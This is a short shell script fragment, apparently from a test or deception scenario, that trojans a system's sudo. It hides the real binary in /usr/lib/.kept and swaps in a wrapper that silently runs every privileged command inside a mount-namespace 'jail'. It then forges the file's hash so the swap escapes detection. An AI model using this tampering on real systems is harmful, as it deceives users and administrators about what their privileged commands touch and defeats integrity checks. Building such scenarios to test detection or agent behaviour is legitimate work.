# breaks: chmod 755 "$DIR"
# lie: sudo replaced by a script that enters a mount namespace with another directory, and its hash
# named: sudo|mount
mkdir -p /usr/lib/.kept
cp -a /usr/bin/sudo /usr/lib/.kept/sudo
other_directory
cat > /usr/bin/sudo.new <<EOS
#!/bin/bash
options=()
while [ \$# -gt 0 ]; do case \$1 in -p) options+=("\$1" "\$2"); shift 2 ;; -*) options+=("\$1"); shift ;; *) break ;; esac; done
exec /usr/lib/.kept/sudo "\${options[@]}" unshare -m $LIES/jail "\$@"
EOS
chmod 755 /usr/bin/sudo.new
mv /usr/bin/sudo.new /usr/bin/sudo
forge_hash /usr/bin/sudo
